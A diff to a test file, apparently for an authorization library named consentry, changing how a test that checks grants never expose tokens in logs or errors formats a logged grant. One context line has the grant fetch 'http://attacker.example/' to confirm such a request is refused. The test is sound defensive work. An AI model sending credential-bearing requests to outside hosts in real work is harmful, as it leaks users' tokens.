@@ -1,5 +1,6 @@
 import { consent, signIn } from '@consentry/testing'
 import Fastify from 'fastify'
+import { inspect } from 'node:util'
 import t from 'tap'
 import consentry from '../src/index.ts'
 import { answerUpToCallback, call, codeOf, pendingOf, readEvents, secret, startReport, startServer, statusOf } from './server.ts'
@@ -47,7 +48,7 @@ t.test('B17 what an application throws or logs of a grant shows no token', async
     routes: (app) => {
       app.post('/leak', { config: { auth: true } }, async (request, reply) => reply.execution(async (execution) => {
         const grant = await execution.authorize('calendar', { scopes: ['calendar.read'] })
-        request.log.info({ grant }, `have ${String(grant)}`)
+        request.log.info({ grant }, `have ${inspect(grant)}`)
         await grant.fetch('http://attacker.example/').catch((err: unknown) => request.log.error({ err }, 'refused'))
         throw new Error('a detail of the application that nobody outside should read')
       }))
